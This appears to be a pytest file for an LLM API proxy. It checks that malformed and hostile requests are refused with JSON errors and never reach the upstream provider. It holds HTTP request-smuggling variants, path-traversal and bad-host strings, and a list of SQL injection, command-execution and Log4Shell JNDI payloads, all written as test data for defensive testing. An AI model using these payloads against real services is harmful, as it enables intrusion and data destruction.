"""Malformed and hostile requests: always JSON in the dialect of the path, never an echo, never an upstream call."""

from __future__ import annotations

import socket
from pathlib import Path

import orjson
import pytest
from msgspec.structs import replace

from tests.line.harness import KEY, Answer, Proxy, Simulator, config, request, serving

CANARY = "sk-canary-51d0"
HEAD = (
    b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer "
    + CANARY.encode()
)
BODY = b'{"model":"sim","messages":[]}'


def smuggled(lines: bytes, body: bytes = b"abc") -> bytes:
    return HEAD + b"\r\n" + lines + b"\r\n\r\n" + body


SMUGGLING = {
    "length and chunked": smuggled(
        b"Content-Length: 3\r\nTransfer-Encoding: chunked", b"0\r\n\r\n"
    ),
    "two lengths": smuggled(b"Content-Length: 3\r\nContent-Length: 4"),
    "signed length": smuggled(b"Content-Length: +3"),
    "hexadecimal length": smuggled(b"Content-Length: 0x3"),
    "negative length": smuggled(b"Content-Length: -1"),
    "digits of another script": smuggled("Content-Length: \u0663".encode()),
    "unknown coding": smuggled(b"Transfer-Encoding: xchunked", b"0\r\n\r\n"),
    "chunked then identity": smuggled(b"Transfer-Encoding: chunked, identity", b"0\r\n\r\n"),
    "two codings": smuggled(
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"0\r\n\r\n"
    ),
    "space before the colon": smuggled(b"Content-Length : 3"),
    "tab before the value": smuggled(b"Transfer-Encoding: \x0bchunked", b"0\r\n\r\n"),
    "bare line feed": smuggled(b"X: y\nContent-Length: 3"),
    "bare carriage return": smuggled(b"X: y\rContent-Length: 3"),
    "zero byte": smuggled(b"X: a\0b\r\nContent-Length: 3"),
    "folded header": smuggled(b"X: a\r\n b\r\nContent-Length: 3"),
    "two hosts": smuggled(b"Host: other\r\nContent-Length: 3"),
    "no host": b"POST /v1/chat/completions HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc",
    "hexadecimal chunk size": smuggled(b"Transfer-Encoding: chunked", b"0x3\r\nabc\r\n0\r\n\r\n"),
    "huge chunk size": smuggled(
        b"Transfer-Encoding: chunked", b"FFFFFFFFFFFFFFFFF\r\nabc\r\n0\r\n\r\n"
    ),
    "line feed in a chunk extension": smuggled(
        b"Transfer-Encoding: chunked", b"3;a\nb\r\nabc\r\n0\r\n\r\n"
    ),
    "chunk without its end": smuggled(b"Transfer-Encoding: chunked", b"3\r\nabcX0\r\n\r\n"),
    "header without a colon": smuggled(b"Content-Length 3"),
}

STRANGE = {
    "HTTP/0.9": b"GET /v1/models\r\n\r\n",
    "HTTP/1.2": b"GET /v1/models HTTP/1.2\r\nHost: x\r\n\r\n",
    "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 64 + b"\r\n\r\n",
    "lower-case method": b"get /v1/models HTTP/1.1\r\nHost: x\r\n\r\n",
    "no version": b"POST /v1/chat/completions\r\nHost: x\r\n\r\n",
    "a header line that is the key": b"GET /v1/models HTTP/1.1\r\n" + CANARY.encode() + b"\r\n\r\n",
}

HOSTS = [
    b"x/#@evil",
    b"evil/path",
    b"user@evil",
    b"ev il",
    b"evil?x",
    b"evil\\x",
    b"evil:99999999",
    b"[::1",
    b"ev\x01il",
]


async def answer_to(proxy: Proxy, data: bytes) -> tuple[Answer, bytes]:
    """The first answer, and whatever else came before the connection ended."""
    client = await proxy.raw()
    client.send(data)
    answer = await client.answer()
    return answer, await client.reader.read()


def check_refusal(answer: Answer, statuses: set[int] | None = None) -> None:
    """What every refusal of malformed HTTP has in common."""
    assert answer.status in (statuses or {400})
    assert answer.headers["content-type"] == "application/json; charset=utf-8"
    assert answer.headers["connection"] == "close"
    assert answer.headers["x-request-id"]
    assert CANARY.encode() not in answer.body
    assert set(answer.json) == {"error"}


# E1


@pytest.mark.parametrize("form", SMUGGLING)
async def test_a_request_that_could_be_read_in_two_ways_is_refused(
    sim: Simulator, tmp_path: Path, form: str
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        answer, rest = await answer_to(proxy, SMUGGLING[form])

        # Where the head is sound and only the body is not, the key is looked at first.
        check_refusal(answer, {400, 401})
        assert rest == b""


@pytest.mark.parametrize(
    "form", [name for name, data in SMUGGLING.items() if b"chunked\r\n\r\n" in data]
)
async def test_a_body_broken_in_its_framing_is_refused_with_a_good_key(
    sim: Simulator, tmp_path: Path, form: str
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        data = SMUGGLING[form].replace(CANARY.encode(), KEY.encode())
        answer, _ = await answer_to(proxy, data)

        check_refusal(answer)


# E2


@pytest.mark.parametrize("form", STRANGE)
async def test_what_is_no_http_of_ours_is_refused(
    sim: Simulator, tmp_path: Path, form: str
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        answer, rest = await answer_to(proxy, STRANGE[form])

        check_refusal(answer)
        assert rest == b""


# E3


@pytest.mark.parametrize("host", HOSTS)
async def test_a_host_that_is_no_host_is_refused(
    sim: Simulator, tmp_path: Path, host: bytes
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        answer, _ = await answer_to(
            proxy, b"GET /v1/models HTTP/1.1\r\nHost: " + host + b"\r\n\r\n"
        )

        check_refusal(answer)


@pytest.mark.parametrize("host", ["localhost", "a.example:8000", "[::1]:8000", "10.0.0.1", ""])
async def test_an_ordinary_host_is_served(sim: Simulator, tmp_path: Path, host: str) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        client = await proxy.raw()
        client.send(request("GET", "/v1/models", None, {"host": host}))

        assert (await client.answer()).status == 200


# E4


@pytest.mark.parametrize(
    "target",
    [
        "http://localhost/v1/chat/completions",
        "//v1/chat/completions",
        "/v1/../v1/chat/completions",
        "/v1/%2e%2e/v1/chat/completions",
        "/v1%2fchat/completions",
        "/v1/chat/completions;a",
        "/v1\\chat/completions",
        "/v1/chat/completions%00",
        "/V1/Chat/Completions",
        "/admin/keys",
        "/metrics/../admin",
        "*",
    ],
)
async def test_only_the_exact_path_is_one(sim: Simulator, tmp_path: Path, target: str) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        answer = await proxy.post(target, BODY)

        assert answer.status in (400, 404)
        assert "error" in answer.json


async def test_a_known_path_with_another_method_says_which_it_takes(
    sim: Simulator, tmp_path: Path
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        answer = await proxy.get("/v1/chat/completions")

        assert answer.status == 405
        assert answer.headers["allow"] == "POST"


# E5


@pytest.mark.parametrize(
    "data",
    [
        b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /v1/models HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 9000 + b"\r\n\r\n",
        b"GET /v1/models HTTP/1.1\r\nHost: x\r\n"
        + b"".join(b"X-%d: y\r\n" % n for n in range(200))
        + b"\r\n",
        b"GET /v1/models HTTP/1.1\r\nHost: x\r\n"
        + b"".join(b"X-%d: %b\r\n" % (n, b"y" * 900) for n in range(80))
        + b"\r\n",
    ],
    ids=["long target", "long header", "many headers", "much in all"],
)
async def test_too_large_a_head_is_refused(sim: Simulator, tmp_path: Path, data: bytes) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        answer, _ = await answer_to(proxy, data)

        check_refusal(answer, {431})


# E6


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"[]",
        b'"x"',
        b"1",
        b"null",
        BODY + b"x",
        b"/* */" + BODY,
        b'{"a":1,}',
        b"{'a':1}",
        b'{"a":NaN}',
        b'{"a":' + b"[" * 100 + b"]" * 100 + b"}",
    ],
)
@pytest.mark.parametrize(
    ("path", "shape"),
    [
        ("/v1/chat/completions", ("error", "code")),
        ("/v1/messages", ("error", "type")),
        ("/v1beta/models/sim:generateContent", ("error", "status")),
    ],
)
async def test_a_body_that_is_no_json_object_is_refused(
    sim: Simulator, tmp_path: Path, body: bytes, path: str, shape: tuple[str, str]
) -> None:
    before = (await sim.ledger())["begun"]
    async with serving(config(sim.url), tmp_path) as proxy:
        answer = await proxy.post(path, body)

        assert answer.status == 400
        assert shape[1] in answer.json[shape[0]]
        assert proxy.metric("headrace_target_health") in (0, 1)
    assert (await sim.ledger())["begun"] == before


@pytest.mark.parametrize("body", [b"{}", b'{"model":null}', b'{"model":7}', b'{"model":""}'])
async def test_a_request_without_a_model_says_so(
    sim: Simulator, tmp_path: Path, body: bytes
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        answer = await proxy.post("/v1/chat/completions", body)

        assert answer.status == 400
        assert answer.json["error"]["param"] == "model"


async def test_a_form_that_a_page_could_send_is_refused(sim: Simulator, tmp_path: Path) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        answer = await proxy.post("/v1/chat/completions", BODY, {"content-type": "text/plain"})

        assert answer.status == 415


# E8


async def test_a_key_given_twice_reaches_the_provider_once(sim: Simulator, tmp_path: Path) -> None:
    content = config(sim.url, keys=[{"name": "narrow", "key": KEY, "models": ["sim-n1-ide8"]}])
    async with serving(content, tmp_path) as proxy:
        body = b'{"model":"sim-forbidden","messages":[],"mod\\u0065l":"sim-n1-ide8"}'
        answer = await proxy.post("/v1/chat/completions", body)

        assert answer.status == 200
    assert len(await sim.requests("sim-n1-ide8")) == 1
    assert await sim.requests("sim-forbidden") == []


# E11


@pytest.mark.parametrize("declared", [True, False])
async def test_too_large_a_body_is_refused(sim: Simulator, tmp_path: Path, declared: bool) -> None:
    async with serving(config(sim.url, server={"max_body": 100_000}), tmp_path) as proxy:
        client = await proxy.raw()
        body = b"x" * 100_001
        if declared:
            client.send(request("POST", "/v1/chat/completions", body))
        else:
            head = request("POST", "/v1/chat/completions", None, {"transfer-encoding": "chunked"})
            client.send(head + b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body))
        answer = await client.answer()

        assert answer.status == 413
        assert answer.headers["connection"] == "close"
        assert answer.json["error"]["code"] == "request_too_large"


async def test_a_body_at_the_limit_is_served(sim: Simulator, tmp_path: Path) -> None:
    async with serving(config(sim.url, server={"max_body": 100_000}), tmp_path) as proxy:
        pad = 100_000 - len(orjson.dumps({"model": "sim-n1", "messages": [], "user": ""}))
        body = orjson.dumps({"model": "sim-n1", "messages": [], "user": "x" * pad})
        assert len(body) == 100_000

        assert (await proxy.post("/v1/chat/completions", body)).status == 200


# E13 (in part): what aiohttp would answer with a 500


@pytest.mark.parametrize(("coding", "status"), [("gzip", 415), ("br", 415), ("zstd", 415)])
async def test_a_body_in_an_unknown_or_broken_coding_is_refused(
    sim: Simulator, tmp_path: Path, coding: str, status: int
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        answer = await proxy.post("/v1/chat/completions", BODY, {"content-encoding": coding})

        assert answer.status == status
        assert answer.json["error"]["code"] == "unsupported_encoding"


# E17

CARRIERS: dict[str, tuple[dict[str, str], str]] = {
    "bearer": ({"authorization": "Bearer {}"}, ""),
    "x-api-key": ({"x-api-key": "{}"}, ""),
    "api-key": ({"api-key": "{}"}, ""),
    "x-goog-api-key": ({"x-goog-api-key": "{}"}, ""),
    "api_key": ({}, "?api_key={}"),
    "key": ({}, "?key={}"),
}
ROUTES = ["/v1/chat/completions", "/v1/messages", "/v1beta/models/sim-n1:generateContent"]


async def ask(proxy: Proxy, path: str, **keys: str) -> Answer:
    headers: dict[str, str] = {}
    query = ""
    for carrier, key in keys.items():
        fields, parameter = CARRIERS[carrier.replace("_", "-") if carrier != "api_key" else carrier]
        headers |= {name: value.format(key) for name, value in fields.items()}
        if parameter:
            query += ("&" if query else "?") + parameter[1:].format(key)
    body = b'{"model":"sim-n1","messages":[],"max_tokens":1}'
    return await proxy.post(path + query, body, headers, key=None)


@pytest.mark.parametrize("path", ROUTES)
@pytest.mark.parametrize("carrier", CARRIERS)
async def test_every_route_takes_a_key_from_every_carrier(
    sim: Simulator, tmp_path: Path, path: str, carrier: str
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        assert (await ask(proxy, path, **{carrier: KEY})).status == 200
        assert (await ask(proxy, path, **{carrier: "sk-wrong-key"})).status == 401


@pytest.mark.parametrize("path", ROUTES)
@pytest.mark.parametrize("one", CARRIERS)
async def test_two_different_keys_are_refused_on_every_route(
    sim: Simulator, tmp_path: Path, path: str, one: str
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        for other in CARRIERS.keys() - {one}:
            answer = await ask(proxy, path, **{one: KEY, other: "sk-other-key"})

            assert answer.status == 401
            assert "sk-other-key" not in answer.body.decode()


async def test_the_clients_key_never_reaches_the_provider(sim: Simulator, tmp_path: Path) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        for carrier in CARRIERS:
            answer = await ask(proxy, "/v1/chat/completions", **{carrier: KEY})
            assert answer.status == 200
    for seen in (await sim.ledger())["requests"]:
        assert KEY not in seen["target"]
        assert all(KEY not in value for _, value in seen["headers"])


# I1

SQL = [
    "' OR '1'='1",
    "' OR 1=1--",
    "admin'--",
    '" OR ""="',
    "') OR ('1'='1",
    "1; DROP TABLE objects--",
    "1'; SELECT pg_sleep(10)--",
    "' UNION SELECT spec FROM objects--",
    "' UNION ALL SELECT NULL,NULL,sealed FROM peppers#",
    "1 AND SLEEP(10)",
    "1' AND extractvalue(rand(),concat(0x7e,version()))--",
    "'; EXEC xp_cmdshell('id')--",
    "$1",
    "%%%%",
    "sk-hr-%' OR name LIKE '%",
    "${jndi:ldap://x.invalid/a}",
    "{{7*7}}",
    "\\' OR 1=1 -- ",
]


async def test_sql_in_a_key_is_a_wrong_key(sim: Simulator, tmp_path: Path) -> None:
    """There is no database behind it: that is a contract of imports (`pyproject.toml`)."""
    before = (await sim.ledger())["begun"]
    async with serving(config(sim.url), tmp_path) as proxy:
        for text in SQL:
            answer = await proxy.post("/v1/chat/completions", BODY, key=text)

            assert (answer.status, answer.json["error"]["code"]) == (401, "invalid_api_key")
            assert text not in answer.body.decode()
    assert (await sim.ledger())["begun"] == before


# I3


@pytest.mark.parametrize("path", ROUTES)
async def test_who_guesses_keys_is_told_to_wait_and_who_has_one_is_not(
    sim: Simulator, tmp_path: Path, path: str
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        for _ in range(20):
            assert (await ask(proxy, path, bearer="sk-wrong-key")).status == 401
        flooded = await ask(proxy, path, bearer="sk-wrong-key")

        assert flooded.status == 429
        assert 1 <= int(flooded.headers["retry-after"]) <= 3
        assert flooded.headers["x-should-retry"] == "false"
        assert (await ask(proxy, path, bearer=KEY)).status == 200
        assert proxy.metric("headrace_auth_failures_total", reason="invalid_api_key") == 20
        assert proxy.metric("headrace_auth_failures_total", reason="too_many_auth_failures") == 1


# What a key is held to


async def test_a_key_is_held_to_its_routes_and_networks(sim: Simulator, tmp_path: Path) -> None:
    content = config(
        sim.url,
        keys=[
            {"name": "chat", "key": "sk-chat-alone", "routes": ["chat"]},
            {"name": "inside", "key": "sk-from-here", "cidrs": ["127.0.0.0/8"]},
            {"name": "elsewhere", "key": "sk-elsewhere", "cidrs": ["192.0.2.0/24"]},
        ],
    )
    async with serving(content, tmp_path) as proxy:
        told = {"x-forwarded-for": "192.0.2.1", "x-real-ip": "192.0.2.1"}
        body = b'{"model":"sim-n1","messages":[],"max_tokens":1}'
        chat = [
            await proxy.post("/v1/chat/completions", body, told, key=key)
            for key in ("sk-chat-alone", "sk-from-here", "sk-elsewhere")
        ]
        messages = await proxy.post("/v1/messages", body, key="sk-chat-alone")

        assert [answer.status for answer in chat] == [200, 200, 403]
        assert chat[2].json["error"]["code"] == "address_not_allowed"
        assert (messages.status, messages.json["error"]["type"]) == (403, "permission_error")
        assert proxy.metric("headrace_auth_failures_total", reason="route_not_allowed") == 1


async def test_a_key_that_nobody_can_know_yet_is_no_wrong_key(
    sim: Simulator, tmp_path: Path
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        state = proxy.worker.state
        state.use(replace(state.snapshot, complete=False))
        for _ in range(25):
            answer = await ask(proxy, "/v1/chat/completions", bearer="sk-of-the-store")

            assert (answer.status, answer.json["error"]["code"]) == (503, "state_unavailable")
            assert answer.headers["retry-after"] == "2"
        assert (await ask(proxy, "/v1/chat/completions", bearer=KEY)).status == 200


# TCP_NODELAY


async def test_answers_are_not_delayed_by_nagle(sim: Simulator, tmp_path: Path) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        await proxy.chat("sim-n1")
        client = await proxy.raw()
        client.send(request("GET", "/v1/models", None))
        await client.answer()

        for connection in proxy.worker.gateway._server.connections:
            assert connection.transport is not None
            sock = connection.transport.get_extra_info("socket")
            assert sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY)


async def test_an_upgrade_is_declined_and_its_connection_closed(
    sim: Simulator, tmp_path: Path
) -> None:
    async with serving(config(sim.url), tmp_path) as proxy:
        upgrade = {"connection": "upgrade", "upgrade": "websocket"}
        answer, rest = await answer_to(proxy, request("GET", "/v1/models", None, upgrade))

        assert answer.status == 200
        assert rest == b""
